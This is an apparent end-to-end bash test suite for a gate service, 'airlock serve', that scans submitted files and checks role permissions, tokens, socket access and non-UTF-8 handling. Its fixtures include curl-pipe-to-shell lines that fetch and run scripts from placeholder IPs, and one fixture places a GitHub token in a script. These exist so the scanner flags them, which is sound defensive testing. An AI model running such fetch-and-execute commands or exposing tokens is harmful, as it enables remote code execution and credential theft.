#!/usr/bin/env bash
# e2e_serve.sh - end-to-end tests of the gate service, `airlock serve`, over
# real HTTP: the role matrix, the intake socket, scanning, deduplication,
# restarts, concurrency, crashes, limits and errors, metrics, `airlock init`
# run twice, one gate per data directory, reloads that fail and
# `serve --check-config`, short-lived agent tokens, and stopping with a
# request in flight. docs/api.md is the contract these tests hold the
# service to.
#
# Run from the repository root:  bash tests/e2e_serve.sh
# The binary is $AIRLOCK_BIN (default build/airlock). Conventions as in
# tests/e2e_scan.sh: one t_* function per test, each in its own empty
# directory; every test makes its own data directory (`airlock init`) and
# serves it on a free loopback port with the test rules (tests/data/rules),
# and stops it at the end (an EXIT trap stops it, and anything it left,
# when a test fails half-way). Needs curl and sqlite3.

. "$(dirname "${BASH_SOURCE[0]}")/e2e_lib.sh"

require curl pgrep sqlite3 base64 sha256sum cmp git

# The fault shim (make e2e builds it beside the binary), by absolute path:
# the tests run in their own directories.
IOFAIL=${IOFAIL:-$(dirname "${AIRLOCK_BIN:-build/airlock}")/tests/libiofail.so}
[ -f "$IOFAIL" ] && IOFAIL=$(realpath "$IOFAIL")

# ---- the server ------------------------------------------------------------------

# free_port: a loopback port nothing listens on now.
free_port() {
	python3 -c 'import socket; s = socket.socket(); s.bind(("127.0.0.1", 0)); print(s.getsockname()[1])'
}

# alive PID: the process exists and is not a zombie.
alive() {
	[ -r "/proc/$1/stat" ] || return 1
	! awk '{ sub(/^.*\) /, ""); exit !($1 == "Z") }' "/proc/$1/stat" 2>/dev/null
}

# gate_procs: the pids of every process serving ./data (the server and the
# scan launchers and children it forked, which share its command line).
gate_procs() {
	pgrep -f -- "--data $PWD/data " || true
}

# kill_leftovers: SIGKILLs (by pid) whatever still serves ./data.
kill_leftovers() {
	local p
	for p in $(gate_procs); do
		kill -KILL "$p" 2>/dev/null
	done
}

BG=() # background jobs of the test (curls), killed by the trap

# on_exit: the test's EXIT trap: stops the server and its children, the
# background jobs, and shows the server's log if the test failed.
on_exit() {
	local rc=$? p i
	for p in "${BG[@]}"; do
		kill -KILL "$p" 2>/dev/null
	done
	if [ -n "${SPID:-}" ] && alive "$SPID"; then
		kill -TERM "$SPID" 2>/dev/null
		for i in $(seq 1 30); do
			alive "$SPID" || break
			sleep 0.1
		done
		kill -KILL "$SPID" 2>/dev/null
	fi
	kill_leftovers
	if [ "$rc" != 0 ] && [ -s serve.log ]; then
		echo "  --- serve.log (last 20 lines):"
		tail -n 20 serve.log | sed 's/^/  | /'
	fi
	wait 2>/dev/null
	# ./data on a tmpfs of its own (small_data): unmounted once the
	# server is gone.
	[ -z "${SMALL_DATA:-}" ] || umount -l "$PWD/data" 2>/dev/null
	return "$rc"
}

# srv_init: `airlock init` of ./data; the admin token in $ADMIN.
srv_init() {
	"$BIN" init --data "$PWD/data" >admin.tok 2>init.err ||
		fail "airlock init failed: $(cat init.err)"
	ADMIN=$(cat admin.tok)
	[ -n "$ADMIN" ] || fail "airlock init printed no admin token"
}

# srv_start [SERVE-OPTIONS...]: serves ./data (init'ed first if need be) on a
# free port, 2 scanners, the test rules; sets PORT, URL, SPID, SOCK. Fails if
# it does not answer /healthz within 10 s. The environment of the call is the
# server's (e.g. AIRLOCK_TEST_CHILD_FAULT=... srv_start).
srv_start() {
	local i
	[ -e data/airlock.db ] || srv_init
	[ -n "${ADMIN:-}" ] || ADMIN=$(cat admin.tok)
	trap on_exit EXIT
	SOCK=$PWD/data/intake.sock
	for _ in 1 2 3; do
		PORT=$(free_port)
		URL=http://127.0.0.1:$PORT
		echo "--- serve --listen 127.0.0.1:$PORT $*" >>serve.log
		"$BIN" serve --data "$PWD/data" --listen "127.0.0.1:$PORT" \
			--scanners 2 --rules "$RULES" "$@" >>serve.log 2>&1 &
		SPID=$!
		for i in $(seq 1 200); do
			curl -s --max-time 2 "$URL/healthz" >/dev/null 2>&1 && return 0
			alive "$SPID" || break
			sleep 0.05
		done
		if alive "$SPID"; then
			fail "airlock serve did not answer /healthz within 10 s"
		fi
		wait "$SPID"
		SPID=
		tail -n 1 serve.log | grep -q 'in use' || break # else: another port
	done
	fail "airlock serve did not start: $(tail -n 5 serve.log)"
}

# srv_term [SECONDS]: SIGTERM; sets STOP_RC to the exit status, or to
# "timeout" when the server is still there after SECONDS (default 10; it is
# then left running).
srv_term() {
	local max=${1:-10} i rc=0
	if ! alive "$SPID"; then
		wait "$SPID" || rc=$?
		SPID=
		fail "airlock serve died (exit status $rc) before SIGTERM"
	fi
	kill -TERM "$SPID"
	for i in $(seq 1 $((max * 10))); do
		alive "$SPID" || break
		sleep 0.1
	done
	if alive "$SPID"; then
		STOP_RC=timeout
		return
	fi
	STOP_RC=0
	wait "$SPID" || STOP_RC=$?
	SPID=
}

# no_leftovers: nothing serves ./data any more (waits up to 3 s).
no_leftovers() {
	local i
	for i in $(seq 1 30); do
		[ -z "$(gate_procs)" ] && return 0
		sleep 0.1
	done
	fail "processes left after the server stopped: $(gate_procs | tr '\n' ' ')"
}

# srv_stop: SIGTERM; the server must exit 0 within 10 s and leave nothing.
srv_stop() {
	srv_term 10
	[ "$STOP_RC" != timeout ] || fail "airlock serve still runs 10 s after SIGTERM"
	[ "$STOP_RC" = 0 ] || fail "airlock serve exited $STOP_RC after SIGTERM, expected 0"
	no_leftovers
	[ ! -e "$SOCK" ] || fail "the intake socket is left behind"
	check_error_bodies
	# Whatever the test did through the gate, its log verifies.
	RC=0
	"$BIN" audit verify --data "$PWD/data" >audit.out 2>&1 || RC=$?
	[ "$RC" = 0 ] || fail "audit verify after the test: exit $RC: $(cat audit.out)"
}

# srv_kill9: SIGKILLs the server (and, by pid, what it forked).
srv_kill9() {
	kill -KILL "$SPID"
	wait "$SPID" 2>/dev/null
	SPID=
	kill_leftovers
}

# ---- requests --------------------------------------------------------------------

# api METHOD PATH TOKEN [CURL-ARGS...]: a request to the TCP listener; the
# body in $OUT, the status in $CODE ("000": no answer). TOKEN may be "".
api() {
	local m=$1 p=$2 t=$3 auth=()
	shift 3
	[ -z "$t" ] || auth=(-H "Authorization: Bearer $t")
	CODE=$(curl -sS --max-time 30 -o "$OUT" -w '%{http_code}' -X "$m" \
		"${auth[@]}" "$@" "$URL$p" 2>"$ERR") || true
}

# sock METHOD PATH TOKEN [CURL-ARGS...]: the same on the intake socket.
sock() {
	local m=$1 p=$2 t=$3 auth=()
	shift 3
	[ -z "$t" ] || auth=(-H "Authorization: Bearer $t")
	CODE=$(curl -sS --max-time 30 -o "$OUT" -w '%{http_code}' -X "$m" \
		"${auth[@]}" --unix-socket "$SOCK" "$@" "http://localhost$p" 2>"$ERR") || true
}

expect_code() { # CODE WHAT
	[ "$CODE" = "$1" ] || fail "${2:-request}: HTTP $CODE, expected $1"
}

# expect_all EXPR WANT [EXPR WANT...]: expect_q for many expressions, in one
# Python run (each start costs); fails at the first mismatch.
expect_all() {
	local msg
	msg=$(python3 - "$OUT" "$@" 2>&1 <<'EOF'
import json, re, sys
d = json.load(open(sys.argv[1], "rb"))
F = d.get("findings", []) if isinstance(d, dict) else []
R = lambda rule: [f for f in F if f["rule"] == rule]
a = sys.argv[2:]
for e, w in zip(a[0::2], a[1::2]):
    try:
        v = str(eval(e))
    except Exception as x:
        v = "error: %r" % x
    if v != w:
        print("%s: got '%s', expected '%s'" % (e, v, w))
        break
EOF
	) || fail "the answer is not JSON: $msg"
	[ -z "$msg" ] || fail "$msg"
}

# expect_error_json [SECRET...]: $OUT looks like {"error": "..."} and holds
# none of the SECRETs; a copy is kept for the strict check that srv_stop
# makes of all of them at once (check_error_bodies).
NERR=0
expect_error_json() {
	local s
	grep -q '"error": *"' "$OUT" || fail "the error body has no \"error\""
	for s in "$@"; do
		! grep -qF -- "$s" "$OUT" || fail "the error body repeats '$s'"
	done
	NERR=$((NERR + 1))
	mkdir -p errbodies
	cp "$OUT" "errbodies/$NERR"
}
check_error_bodies() {
	[ -d errbodies ] || return 0
	python3 - errbodies/* <<'EOF' || fail "an error body is not exactly {\"error\": STRING}"
import json, sys
for f in sys.argv[1:]:
    d = json.load(open(f, "rb"))
    assert isinstance(d, dict) and list(d) == ["error"] and isinstance(d["error"], str) and d["error"], f
EOF
}

# tok_of_out, id_of_out, sha_of_out: fields of the answer in $OUT.
tok_of_out() { grep -o '"token": *"alk_[^"]*"' "$OUT" | grep -o 'alk_[^"]*'; }
id_of_out() { grep -o '"id": *[0-9]*' "$OUT" | head -n 1 | grep -o '[0-9]*$'; }
sha_of_out() { grep -o '"sha256": *"[0-9a-f]*"' "$OUT" | head -n 1 | grep -o '[0-9a-f]\{64\}'; }

# mk_token ROLE NAME [ON_BEHALF_OF [TTL]]: made by the admin; the token in $TOK.
mk_token() {
	# The token's person: the one an agent is launched for, else the
	# person named like the token (registered here if new).
	api POST /v1/persons "$ADMIN" -H 'Content-Type: application/json' \
		--data-binary "{\"name\": \"${3:-$2}\"}"
	[ "$CODE" = 201 ] || [ "$CODE" = 409 ] || fail "POST /v1/persons ${3:-$2}: HTTP $CODE"
	local body="{\"role\": \"$1\", \"name\": \"$2\"${3:+, \"on_behalf_of\": \"$3\"}${4:+, \"ttl\": \"$4\"}}"
	api POST /v1/tokens "$ADMIN" -H 'Content-Type: application/json' --data-binary "$body"
	expect_code 201 "POST /v1/tokens $body"
	TOK=$(tok_of_out)
	[ -n "$TOK" ] || fail "no token in the answer"
}

# submit TOKEN FILE [QUERY]: POST /v1/submissions over TCP, 201 expected;
# the id in $SID, the sha256 in $SHA.
submit() {
	api POST "/v1/submissions${3:+?$3}" "$1" --data-binary "@$2"
	expect_code 201 "submit $2"
	SID=$(id_of_out)
	SHA=$(sha_of_out)
	[ -n "$SID" ] && [ -n "$SHA" ] || fail "no id or sha256 in the answer"
}

# wait_state ID STATE [SECONDS]: polls GET /v1/submissions/ID (admin, TCP)
# until its state is STATE (default 20 s); the submission is then in $OUT.
wait_state() {
	local id=$1 want=$2 max=${3:-20} i
	for i in $(seq 1 $((max * 20))); do
		api GET "/v1/submissions/$id" "$ADMIN"
		[ "$CODE" = 200 ] && grep -q "^  \"state\": \"$want\"" "$OUT" && return 0
		sleep 0.05
	done
	fail "submission $id: not '$want' after ${max}s (HTTP $CODE)"
}

# count_state STATE: how many submissions the admin sees in STATE.
count_state() {
	api GET "/v1/submissions?state=$1&limit=1000" "$ADMIN"
	grep -c "^      \"state\": \"$1\"" "$OUT"
}

nrows() { sqlite3 data/airlock.db "SELECT count(*) FROM $1"; }
nobjects() { find data/objects -type f | wc -l; }
ntmp() { find data/tmp -mindepth 1 | wc -l; }
integrity_ok() {
	local r
	r=$(sqlite3 data/airlock.db 'PRAGMA integrity_check' 2>&1)
	[ "$r" = ok ] || fail "integrity_check: $r"
}

# ---- 1. the role matrix ------------------------------------------------------------

# The whole table of docs/api.md: every role against every endpoint. Every
# answer is kept and checked at the end, all mismatches reported together.
t_role_matrix() {
	local role t exp i ep
	srv_start
	mk_token agent agent-1 alice
	local AG=$TOK
	mk_token agent agent-2 bob
	local AG2=$TOK
	mk_token reviewer rev-1
	local RV=$TOK
	mk_token ci ci-1
	local CI=$TOK
	mk_token auditor aud-1
	local AU=$TOK
	for role in agent reviewer ci auditor admin; do
		mk_token reviewer "victim-$role"
	done
	printf 'mine\n' >a.txt
	submit "$AG" a.txt 'name=a.txt'
	local S1=$SID
	printf 'theirs\n' >b.txt
	submit "$AG2" b.txt 'name=b.txt'
	local S2=$SID
	printf 'more\n' >c.txt

	declare -A TOKS=([agent]=$AG [reviewer]=$RV [ci]=$CI [auditor]=$AU [admin]=$ADMIN)
	# metrics submit list show content events tcreate tlist trevoke item
	# allevents (GET /v1/events)
	# (item: a plain file keeps no member bytes, so a role let through
	# gets 404, one refused 403)
	declare -A WANT=(
		[agent]='403 201 200 200 403 403 403 403 403 403 403'
		[reviewer]='403 403 200 200 200 200 403 403 403 404 403'
		[ci]='403 403 200 200 403 403 403 403 403 403 403'
		[auditor]='200 403 200 200 200 200 403 403 403 404 200'
		[admin]='200 403 200 200 200 200 201 200 200 404 200'
	)
	local EPS=(metrics submit list show content events tcreate tlist trevoke item allevents)
	: >matrix.txt
	for role in agent reviewer ci auditor admin; do
		t=${TOKS[$role]}
		read -r -a exp <<<"${WANT[$role]}"
		for i in "${!EPS[@]}"; do
			ep=${EPS[$i]}
			case $ep in
			metrics) api GET /metrics "$t" ;;
			submit) api POST '/v1/submissions?name=c.txt' "$t" --data-binary @c.txt ;;
			list) api GET /v1/submissions "$t" ;;
			show) api GET "/v1/submissions/$S1" "$t" ;;
			content) api GET "/v1/submissions/$S1/content" "$t" ;;
			events) api GET "/v1/submissions/$S1/events" "$t" ;;
			tcreate) api POST /v1/tokens "$t" --data-binary "{\"role\": \"admin\", \"name\": \"made-by-$role\", \"person\": \"admin\"}" ;;
			tlist) api GET /v1/tokens "$t" ;;
			trevoke) api DELETE "/v1/tokens/victim-$role" "$t" ;;
			item) api GET "/v1/submissions/$S1/items/0/content" "$t" ;;
			allevents) api GET /v1/events "$t" ;;
			esac
			cp "$OUT" "m.$role.$ep"
			echo "$role $ep $CODE ${exp[$i]}" >>matrix.txt
		done
	done
	# "own": another agent's submission is 404 to an agent, and not listed.
	api GET "/v1/submissions/$S2" "$AG"
	cp "$OUT" m.agent.other-show
	echo "agent other-show $CODE 404" >>matrix.txt
	api GET "/v1/submissions/$S1" "$AG2"
	cp "$OUT" m.agent2.other-show
	echo "agent2 other-show $CODE 404" >>matrix.txt
	api GET /v1/submissions "$AG2"
	cp "$OUT" m.agent2.list
	echo "agent2 list $CODE 200" >>matrix.txt
	# Afterwards: what the refused calls did not do.
	api GET /v1/tokens "$ADMIN"
	cp "$OUT" tokens.json
	python3 - "$S1" "$S2" "$(nrows submissions)" >mismatches.txt <<'EOF'
import json, sys
S1, S2, nsub = int(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3])
mine = open("a.txt", "rb").read()
bad = []
def load(b):
    try:
        return json.loads(b)
    except ValueError:
        return None
agent_sub = None
for line in open("matrix.txt"):
    role, ep, got, want = line.split()
    body = open("m.%s.%s" % (role, ep), "rb").read()
    if got != want:
        bad.append("%s %s: HTTP %s, expected %s" % (role, ep, got, want))
        continue
    d = load(body) if got in ("401", "403", "404") or ep not in ("content", "metrics") else None
    if got in ("401", "403", "404"):
        if not (isinstance(d, dict) and list(d) == ["error"] and isinstance(d["error"], str)):
            bad.append("%s %s: the %s body is not {\"error\": STRING}" % (role, ep, got))
        continue
    if ep == "content" and body != mine:
        bad.append("%s content: not the submitted bytes" % role)
    elif ep == "metrics" and b"airlock_submissions{" not in body:
        bad.append("%s metrics: no airlock_submissions" % role)
    elif ep == "submit":
        agent_sub = d["id"]
    elif ep == "show" and (d["id"] != S1 or d["name"] != "a.txt"):
        bad.append("%s show: not submission %d" % (role, S1))
    elif ep == "events" and [e["action"] for e in d["events"]][:1] != ["submit"]:
        bad.append("%s events: the first is not 'submit'" % role)
    elif ep == "allevents" and "login.refused" not in [e["action"] for e in d["events"]]:
        bad.append("%s allevents: the refused calls before are not there" % role)
    elif ep == "list":
        ids = sorted(s["id"] for s in d["submissions"])
        if role == "agent" and ids != sorted([S1, agent_sub]):
            bad.append("agent list: %s, expected only its own %s" % (ids, sorted([S1, agent_sub])))
        if role == "agent2" and ids != [S2]:
            bad.append("agent-2 list: %s, expected [%d]" % (ids, S2))
        if role not in ("agent", "agent2") and ids != sorted([S1, S2, agent_sub]):
            bad.append("%s list: %s, expected all" % (role, ids))
    elif ep == "tcreate" and (not d["token"].startswith("alk_") or sorted(d) != ["expires_at", "name", "on_behalf_of", "person", "role", "token"]):
        bad.append("admin tcreate: %s" % sorted(d))
    elif ep == "tlist" and (b"alk_" in body or "victim-agent" not in [t["name"] for t in d["tokens"]]):
        bad.append("admin tlist: shows a token, or lacks victim-agent")
    elif ep == "trevoke" and d != {"name": "victim-admin", "revoked": True}:
        bad.append("admin trevoke: %r" % d)
tokens = json.load(open("tokens.json"))["tokens"]
made = sorted(t["name"] for t in tokens if t["name"].startswith("made-by-"))
if made != ["made-by-admin"]:
    bad.append("tokens made: %s, expected only made-by-admin" % made)
revoked = sorted(t["name"] for t in tokens if t["revoked_at"])
if revoked != ["victim-admin"]:
    bad.append("tokens revoked: %s, expected only victim-admin" % revoked)
if nsub != 3:
    bad.append("%d submissions, expected 3 (only the agent may submit)" % nsub)
for b in bad:
    print(b)
EOF
	if [ -s mismatches.txt ]; then
		sed 's/^/  mismatch: /' mismatches.txt
		fail "$(wc -l <mismatches.txt) mismatches with the role matrix of docs/api.md"
	fi
	srv_stop
}

# No token, a malformed one, an unknown one, another scheme, or a token in
# the URL or a cookie: 401 on every authenticated endpoint; /healthz needs none.
t_unauthenticated_is_401() {
	local ep m p h unknown n=0
	srv_start
	mk_token agent agent-1 alice
	echo hi >a.txt
	submit "$TOK" a.txt
	unknown=alk_$(head -c 32 /dev/urandom | base64 | tr '+/' '-_' | tr -d '=')
	local EPS=("GET /metrics" "POST /v1/submissions" "GET /v1/submissions"
		"GET /v1/submissions/$SID" "GET /v1/submissions/$SID/content"
		"GET /v1/submissions/$SID/events" "POST /v1/tokens" "GET /v1/tokens"
		"DELETE /v1/tokens/agent-1")
	local HDRS=("X-None: 1" "Authorization: Bearer" "Authorization: Bearer garbage"
		"Authorization: Bearer $unknown" "Authorization: Basic YWRtaW46YWRtaW4="
		"Authorization: bearer $ADMIN" "Authorization: Bearer  $ADMIN"
		"Authorization: Bearer ${ADMIN}x" "Cookie: token=$ADMIN")
	: >results.txt
	for ep in "${EPS[@]}"; do
		m=${ep%% *}
		p=${ep#* }
		for h in "${HDRS[@]}" URL; do
			n=$((n + 1))
			if [ "$h" = URL ]; then # a token in the URL is not read
				api "$m" "$p?token=$ADMIN&access_token=$ADMIN" "" --data-binary '{"role": "admin", "name": "x"}'
			else
				api "$m" "$p" "" -H "$h" --data-binary '{"role": "admin", "name": "x"}'
			fi
			cp "$OUT" "r.$n"
			printf '%s\t%s\t%s\t%s\n' "$n" "$CODE" "$ep" "${h:0:44}" >>results.txt
		done
	done
	python3 - "$ADMIN" >mismatches.txt <<'EOF'
import json, sys
for line in open("results.txt"):
    n, code, ep, h = line.rstrip("\n").split("\t")
    body = open("r." + n, "rb").read()
    if code != "401":
        print("%s with '%s': HTTP %s" % (ep, h, code)); continue
    try:
        d = json.loads(body)
        assert list(d) == ["error"] and isinstance(d["error"], str)
    except Exception:
        print("%s with '%s': the 401 body is not {\"error\": STRING}" % (ep, h))
    if sys.argv[1].encode() in body:
        print("%s with '%s': the answer repeats the token" % (ep, h))
EOF
	if [ -s mismatches.txt ]; then
		sed 's/^/  mismatch: /' mismatches.txt
		fail "$(wc -l <mismatches.txt) requests not answered as a 401 should be"
	fi
	[ "$(nrows submissions)" = 1 ] || fail "$(nrows submissions) submissions, expected 1"
	[ "$(sqlite3 data/airlock.db "SELECT count(*) FROM principals WHERE revoked_at IS NOT NULL OR name = 'x'")" = 0 ] ||
		fail "a token was made or revoked"
	api GET /healthz ""
	expect_code 200 "GET /healthz without a token"
	expect_all 'd["status"]' ok 'bool(d["version"]) and d["schema"] >= 1' True
	srv_stop
}

# ---- 2. the intake socket ----------------------------------------------------------

t_intake_socket() {
	local me
	me=$(id -u)
	srv_start
	[ -S "$SOCK" ] || fail "no intake socket at $SOCK"
	[ "$(stat -c %a "$SOCK")" = 666 ] || fail "intake socket mode $(stat -c %a "$SOCK"), expected 666"
	mk_token agent agent-1 alice
	local AG=$TOK
	mk_token agent agent-2 bob
	local AG2=$TOK
	mk_token reviewer rev-1
	local RV=$TOK
	echo 'from the sandbox' >a.txt
	sock POST '/v1/submissions?name=a.txt&label=task=T-1' "$AG" --data-binary @a.txt
	expect_code 201 "agent submits on the socket"
	local S1
	S1=$(id_of_out)
	echo 'from the other sandbox' >b.txt
	sock POST '/v1/submissions?name=b.txt' "$AG2" --data-binary @b.txt
	expect_code 201 "agent-2 submits on the socket"
	local S2
	S2=$(id_of_out)
	echo 'over tcp' >c.txt
	submit "$AG" c.txt name=c.txt
	local S3=$SID

	# Only submit, list and show exist there, even for the admin.
	sock GET /metrics "$ADMIN"
	expect_code 404 "GET /metrics on the socket (admin)"
	expect_error_json "$ADMIN"
	sock GET /v1/tokens "$ADMIN"
	expect_code 404 "GET /v1/tokens on the socket (admin)"
	sock POST /v1/tokens "$ADMIN" --data-binary '{"role": "admin", "name": "sock-admin"}'
	expect_code 404 "POST /v1/tokens on the socket (admin)"
	sock DELETE /v1/tokens/agent-2 "$ADMIN"
	expect_code 404 "DELETE /v1/tokens/NAME on the socket (admin)"
	sock GET "/v1/submissions/$S1/content" "$ADMIN"
	expect_code 404 "GET .../content on the socket (admin)"
	sock GET "/v1/submissions/$S1/events" "$ADMIN"
	expect_code 404 "GET .../events on the socket (admin)"
	sock GET /healthz ""
	expect_code 404 "GET /healthz on the socket (not one of its endpoints)"
	[ "$(sqlite3 data/airlock.db "SELECT count(*) FROM principals WHERE name = 'sock-admin' OR revoked_at IS NOT NULL")" = 0 ] ||
		fail "a token call on the socket changed the tokens"

	# On the socket every caller sees only its own submissions.
	sock GET /v1/submissions "$ADMIN"
	expect_code 200 "admin list on the socket"
	expect_all 'd["submissions"]' '[]'
	sock GET "/v1/submissions/$S1" "$ADMIN"
	expect_code 404 "admin show of an agent's submission on the socket"
	sock GET /v1/submissions "$RV"
	expect_code 200 "reviewer list on the socket"
	expect_all 'd["submissions"]' '[]'
	sock POST /v1/submissions "$ADMIN" --data-binary @a.txt
	expect_code 403 "admin submit on the socket"
	sock GET /v1/submissions ""
	expect_code 401 "list on the socket without a token"
	sock GET /v1/submissions "$AG"
	expect_code 200 "agent list on the socket"
	expect_all "sorted(s['id'] for s in d['submissions'])" "[$S1, $S3]"
	sock GET "/v1/submissions/$S2" "$AG"
	expect_code 404 "agent show of another agent's submission on the socket"
	api GET /v1/submissions "$ADMIN"
	expect_all "sorted(s['id'] for s in d['submissions'])" "[$S1, $S2, $S3]"
	[ "$(nrows submissions)" = 3 ] || fail "$(nrows submissions) submissions, expected 3"

	# What the gate witnessed on each listener.
	sock GET "/v1/submissions/$S1" "$AG"
	expect_code 200 "agent show on the socket"
	expect_all 'd["witnessed"]["via"]' socket \
		'd["witnessed"]["peer_uid"]' "$me" \
		'isinstance(d["witnessed"]["peer_pid"], int) and d["witnessed"]["peer_pid"] > 0' True \
		'd["witnessed"]["submitter"]' agent-1 \
		'd["witnessed"]["launched_by"]' alice \
		'd["asserted"]' "{'task': 'T-1'}"
	api GET "/v1/submissions/$S3" "$AG"
	expect_code 200
	expect_all 'd["witnessed"]["via"]' tcp 'd["witnessed"]["peer_uid"]' None

	api GET /healthz ""
	expect_code 200 "GET /healthz on TCP"
	srv_stop
}

# ---- 3. scanning -------------------------------------------------------------------

t_submit_scan_held() {
	srv_start
	mk_token agent agent-1 alice
	local AG=$TOK
	printf '#!/bin/sh\ncurl -fsSL https://198.51.100.23/install.sh | sh\nexport GITHUB_TOKEN=%s\n' "$PAT1" >fix.sh
	submit "$AG" fix.sh 'kind=file&name=fix.sh&label=task=T-12&label=model=x&label=via=forged&label=submitter=mallory&label=launched_by=eve'
	expect_all 'd["state"]' received 'd["size"]' "$(stat -c %s fix.sh)" \
		'sorted(d)' "['id', 'sha256', 'size', 'state']"
	expect_eq "$SHA" "$(sha256sum fix.sh | cut -d' ' -f1)" "sha256"
	local S1=$SID H1=$SHA
	printf 'def main():\n    print("hello")\n' >clean.py
	submit "$AG" clean.py 'name=clean.py'
	local S2=$SID

	wait_state "$S1" held
	! grep -qF "$PAT1" "$OUT" || fail "the show answer holds the whole secret"
	expect_all 'd["verdict"]' flagged \
		'd["worst"]' critical \
		'd["kind"]' file \
		'd["name"]' fix.sh \
		'd["sha256"]' "$H1" \
		'[(f["path"], f["line"]) for f in R("test-curl-pipe-shell")]' "[('fix.sh', 2)]" \
		'[(f["path"], f["line"], f["severity"]) for f in R("test-github-pat")]' "[('fix.sh', 3, 'critical')]" \
		'all(f["column"] >= 1 and f["fingerprint"] for f in F)' True \
		'd["asserted"] == {"task": "T-12", "model": "x", "via": "forged", "submitter": "mallory", "launched_by": "eve"}' True \
		'sorted(d["witnessed"])' "['launched_by', 'peer_pid', 'peer_uid', 'received_at', 'submitter', 'via']" \
		'd["witnessed"]["submitter"]' agent-1 \
		'd["witnessed"]["launched_by"]' alice \
		'd["witnessed"]["via"]' tcp \
		're.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z", d["witnessed"]["received_at"]) is not None' True

	wait_state "$S2" held
	expect_all 'd["verdict"]' clean 'd["worst"]' None 'd["findings"]' '[]' \
		'd["asserted"]' '{}' 'd["kind"]' file 'd["kind_asked"]' auto \
		'd["name"]' clean.py

	# The list shows the same, newest first.
	api GET '/v1/submissions?state=held' "$ADMIN"
	expect_code 200
	expect_all '[s["id"] for s in d["submissions"]]' "[$S2, $S1]" \
		'[s["verdict"] for s in d["submissions"]]' "['clean', 'flagged']" \
		'any("findings" in s or "scan" in s for s in d["submissions"])' False \
		'd["submissions"][1]["witnessed"]["submitter"]' agent-1
	api GET '/v1/submissions?limit=1' "$ADMIN"
	expect_all '[s["id"] for s in d["submissions"]]' "[$S2]"
	# The events tell the story.
	api GET "/v1/submissions/$S1/events" "$ADMIN"
	expect_code 200
	expect_all '[e["action"] for e in d["events"]]' "['submit', 'scan.start', 'scan.finish']" \
		'd["events"][0]["actor"]' agent-1
	srv_stop
}

# docs/api.md: a submission shows its scan (ruleset, engine, started_at,
# finished_at).
t_show_has_scan_record() {
	srv_start
	mk_token agent agent-1 alice
	echo 'hello' >a.txt
	submit "$TOK" a.txt name=a.txt
	wait_state "$SID" held
	expect_all '"scan" in d' True \
		'd["scan"]["ruleset"].startswith("sha256:") and bool(d["scan"]["engine"])' True \
		'bool(d["scan"]["started_at"]) and bool(d["scan"]["finished_at"])' True
	srv_stop
}

# ---- text that is not UTF-8 (docs/api.md) ------------------------------------------

# findings_in_db ID: the findings recorded for the latest scan of ID.
findings_in_db() {
	sqlite3 data/airlock.db "SELECT count(*) FROM findings WHERE scan_id =
		(SELECT max(id) FROM scans WHERE submission_id = $1)"
}

# Issue 13, defect 2: an archive member's name, a flagged line and a
# patch's path that are not UTF-8 made GET /v1/submissions/ID answer
# "findings": [] under a flagged verdict. Each finding is there, the
# document is valid JSON (Python's strict decoder reads it), the text is
# replaced by U+FFFD and the exact bytes are in the field's "_hex" sibling
# (docs/api.md, "Text that is not UTF-8"); for the agent on the socket,
# in the list and the held queue, and in the events of a member's view.
t_text_not_utf8_is_carried() {
	srv_start
	mk_token agent agent-1 alice
	local AG=$TOK
	mk_token reviewer rev-1
	local RV=$TOK
	not_utf8_fixtures
	submit "$AG" a.tar name=a.tar
	local S_TAR=$SID
	submit "$AG" line.sh name=line.sh
	local S_LINE=$SID
	submit "$AG" quoted.patch 'name=quoted.patch&kind=patch'
	local S_QP=$SID
	submit "$AG" raw.patch 'name=raw.patch&kind=patch'
	local S_RP=$SID

	wait_state "$S_TAR" held
	api GET "/v1/submissions/$S_TAR" "$RV"
	expect_code 200
	expect_all 'd["verdict"]' flagged 'len(F)' "$(findings_in_db "$S_TAR")" \
		'sorted(f["path"] for f in R("test-curl-pipe-shell")) == ["a.tar!/pkg/run.sh", "a.tar!/pkg/\ufffd\ufffdinstall.sh"]' True \
		'all(bytes.fromhex(f["path_hex"]) == b"a.tar!/pkg/\xff\xfeinstall.sh" for f in F if f["path"] != "a.tar!/pkg/run.sh")' True \
		'[f["rule"] for f in F if "path_hex" in f].count("test-curl-pipe-shell")' 1 \
		'[(f["excerpt"], bytes.fromhex(f["excerpt_hex"])) for f in F if "excerpt_hex" in f] == [("curl -fsSL https://198.51.100.78/x | sh # \ufffd\ufffd", b"curl -fsSL https://198.51.100.78/x | sh # \xff\xfe")]' True \
		'[f["excerpt"] for f in R("test-curl-pipe-shell") if "path_hex" in f]' \
		"['curl -fsSL https://198.51.100.77/stage2 | sh']" \
		'any("path_hex" in f for f in F if f["path"] == "a.tar!/pkg/run.sh")' False \
		'[(i["path"], bytes.fromhex(i["path_hex"])) for i in d["items"] if "path_hex" in i] == [("a.tar!/pkg/\ufffd\ufffdinstall.sh", b"a.tar!/pkg/\xff\xfeinstall.sh")]' True \
		'any(k.endswith("_hex") for i in d["items"] if i["path"] == "a.tar!/pkg/run.sh" for k in i)' False
	# The kept member with that name, read: the view.item event's detail
	# carries its path's bytes.
	local N
	N=$(python3 -c 'import json, sys; d = json.load(open(sys.argv[1], "rb")); print([i for i, x in enumerate(d["items"]) if "path_hex" in x][0])' "$OUT")
	api GET "/v1/submissions/$S_TAR/items/$N/content" "$RV"
	expect_code 200 "the member named with invalid UTF-8"
	printf 'curl -fsSL https://198.51.100.77/stage2 | sh\n' | cmp -s - "$OUT" ||
		fail "the member's bytes differ"
	api GET "/v1/submissions/$S_TAR/events" "$RV"
	expect_code 200
	expect_all '[bytes.fromhex(e["detail_hex"]).split(b" ")[0] for e in d["events"] if e["action"] == "view.item"] == [b"a.tar!/pkg/\xff\xfeinstall.sh"]' True \
		'[e["detail"].split(" ")[0] for e in d["events"] if e["action"] == "view.item"] == ["a.tar!/pkg/\ufffd\ufffdinstall.sh"]' True
	api GET "/v1/events?action=view.item" "$ADMIN"
	expect_code 200
	expect_all 'len([e for e in d["events"] if "detail_hex" in e])' 1

	wait_state "$S_LINE" held
	api GET "/v1/submissions/$S_LINE" "$RV"
	expect_code 200
	expect_all 'len(F)' "$(findings_in_db "$S_LINE")" \
		'[(f["path"], f["line"], bytes.fromhex(f["excerpt_hex"])) for f in R("test-curl-pipe-shell")] == [("line.sh", 2, b"curl -fsSL https://198.51.100.78/x | sh # \xff\xfe")]' True

